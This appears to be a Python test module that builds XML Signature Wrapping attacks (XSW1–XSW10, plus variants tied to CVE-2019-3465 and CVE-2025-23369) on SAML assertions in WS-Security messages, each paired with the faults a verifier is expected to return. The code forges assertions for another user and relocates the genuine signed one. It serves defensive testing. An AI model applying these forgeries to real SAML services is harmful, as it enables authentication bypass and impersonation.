"""The wrappings of "On Breaking SAML" as SAML Raider numbers them, with assertions in a Security header.

*Evil* is the forged assertion, *genuine* the signed one, *signature* what covers it: the message's, or its own.
"""

from collections.abc import Callable, Iterator
from functools import partial
from itertools import product

from lxml import etree

from tests.attacks.wss.catalogue import CHECK, CLIENT, HEADER, NOW, TOKEN, UNAVAILABLE, Attack, Sent, faults
from tests.attacks.wss.honest import by_sender, by_sts
from tests.attacks.wss.redirecting import hiding_place
from tests.attacks.wss.wrapping import operated
from tests.forge.names import DS, WSSE
from tests.forge.surgery import Surgery, after, before, clone, replace, with_id, with_user, without_signature

BREAKING = "Somorovsky et al. 2012"
PLACES = ("straight", "advice", "attribute-value", "confirmation-data")
IDS = ("same-id", "other-id", "no-id")


def saml_wrapping() -> Iterator[Attack]:
    """Yield XSW1 to XSW10, each for both versions of SAML and both kinds of signature."""
    for version, by in product((11, 20), ("sender", "sts")):
        for name, title, operation in _operations(by):
            for kind in IDS:
                yield _attack(name, f"{kind}-saml{version}-{by}", title, version, by, partial(operation, kind))
    yield from _by_entities()


def _attack(name, variant, title, version, by, operation):
    kind = f"saml{version}-" + ("one" if by == "sender" else "sts")
    draft = by_sender(version) if by == "sender" else by_sts(version)
    build = operated(draft, operation, tls_client="" if by == "sender" else "sender")
    honest = f"{kind}-str" if by == "sender" else kind
    codes = faults(HEADER, CHECK, TOKEN, UNAVAILABLE)
    xsw, _, place = name.partition("-")
    return Attack(xsw, f"{place}-{variant}" if place else variant, title, BREAKING, kind, honest, build, codes)


Operation = Callable[[str, Surgery], None]


def _operations(by: str) -> Iterator[tuple[str, str, Operation]]:
    yield "xsw1", "the genuine envelope is inside the signature of a forged one", _xsw1
    yield "xsw2", "the genuine assertion is a sibling of the signature, detached", _xsw2
    for where in ("before", "behind"):
        yield f"xsw3-{where}", "evil and genuine assertion are siblings", partial(_xsw3, where)
    for place in PLACES:
        yield f"xsw4-{place}", "the genuine assertion is inside the evil one", partial(_xsw4, place)
    yield "xsw5", "the evil assertion has the signature, the genuine one is at the end", _xsw5
    yield "xsw6", "the evil assertion has the signature, which has the genuine one", _xsw6
    for place in ("security", "header"):
        yield (
            f"xsw7-{place}",
            "the evil assertion is in a wrapper before the genuine one",
            partial(_xsw7, place),
        )
    yield "xsw8", "the evil assertion has the signature, whose Object has the genuine one", _xsw8
    yield "xsw9", "two SignedInfo: one fits the evil assertion, the other the value (CVE-2019-3465)", _xsw9
    yield "xsw10", "a copy of the signature has the genuine assertion, the evil one is bare", _xsw10


def _evil(kind, surgery):
    """Return the evil assertion, without signature, not yet in the message."""
    genuine_id = surgery.assertion.get("ID") or surgery.assertion.get("AssertionID")
    value = {"same-id": genuine_id, "other-id": "_evil", "no-id": None}[kind]
    return with_id(without_signature(with_user(clone(surgery.assertion), "BOB")), value)


def _signature(surgery):
    return surgery.signature if surgery.sts_signature is None else surgery.sts_signature


def _swapped(kind, surgery):
    """Put the evil assertion, with the signature inside, in the genuine one's place; return both."""
    evil, signature = _evil(kind, surgery), _signature(surgery)
    replace(surgery.assertion, evil)
    evil.insert(1, signature)
    return evil, signature


def _xsw1(kind, surgery):
    genuine = clone(surgery.root)
    genuine_signature = Surgery(etree.tostring(genuine))
    signature = _signature(surgery)
    evil = _evil(kind, surgery)
    replace(surgery.assertion, evil)
    if surgery.sts_signature is not None:
        evil.insert(1, signature)
        inner = genuine_signature.sts_signature
    else:
        inner = genuine_signature.signature
    inner.getparent().remove(inner)
    if kind != "same-id":
        _rename(surgery)
    etree.SubElement(signature, f"{{{DS}}}Object").append(genuine_signature.root)


def _rename(surgery):
    """Give what is around the evil assertion other ids than the genuine envelope has."""
    for element in (surgery.body, surgery.timestamp, surgery.str):
        if element is not None:
            with_id(element, f"evil-{element.tag.rpartition('}')[2]}")
    for token in surgery.security.findall(f"{{{WSSE}}}BinarySecurityToken"):
        with_id(token, "evil-token")


def _xsw2(kind, surgery):
    signature, evil = _signature(surgery), _evil(kind, surgery)
    genuine = surgery.assertion
    replace(genuine, evil)
    if surgery.sts_signature is not None:
        surgery.security.append(signature)
    after(signature, genuine)


def _xsw3(where, kind, surgery):
    (before if where == "before" else after)(surgery.assertion, _evil(kind, surgery))


def _xsw4(place, kind, surgery):
    evil = _evil(kind, surgery)
    replace(surgery.assertion, evil)
    hiding_place(evil, place).append(surgery.assertion)


def _xsw5(kind, surgery):
    _swapped(kind, surgery)
    surgery.header.append(surgery.assertion)


def _xsw6(kind, surgery):
    _evil_one, signature = _swapped(kind, surgery)
    signature.append(surgery.assertion)


def _xsw7(place, kind, surgery):
    wrapper = surgery.wrapper("{urn:wrapper}Extensions")
    wrapper.append(_evil(kind, surgery))
    if place == "security":
        before(surgery.assertion, wrapper)
    else:
        before(surgery.security, wrapper)


def _xsw8(kind, surgery):
    _evil_one, signature = _swapped(kind, surgery)
    etree.SubElement(signature, f"{{{DS}}}Object").append(surgery.assertion)


def _xsw9(kind, surgery):
    evil, signature = _swapped(kind, surgery)
    info = signature.find(f"{{{DS}}}SignedInfo")
    forged = clone(info)
    reference = forged.find(f"{{{DS}}}Reference")
    reference.set("URI", "#_evil")
    signature.append(forged)
    wrapper = surgery.wrapper()
    after(evil, wrapper)
    wrapper.append(surgery.assertion)


def _xsw10(kind, surgery):
    copied = clone(_signature(surgery))
    evil = _evil(kind, surgery)
    replace(surgery.assertion, evil)
    if surgery.sts_signature is not None:
        without_signature(surgery.assertion)
        after(evil, copied)
    else:
        after(surgery.signature, copied)
    etree.SubElement(copied, f"{{{DS}}}Object").append(surgery.assertion)


def _by_entities():
    """XSW10 as published: ids that are equal after entities are expanded (CVE-2025-23369)."""

    def build(pki):
        message = by_sts(20)(pki)
        surgery = Surgery(message.build(NOW))
        _xsw10("other-id", surgery)
        text = surgery.bytes().decode().replace('ID="_evil"', 'ID="&evil;"')
        return Sent(
            f'<!DOCTYPE x [<!ENTITY evil "{message.assertion_id}">]>{text}'.encode(), tls_client="sender"
        )

    title = "ids that become equal when entities are expanded"
    yield Attack(
        "xsw10", "entities", title, "CVE-2025-23369", "saml20-sts", "saml20-sts", build, faults(CLIENT)
    )
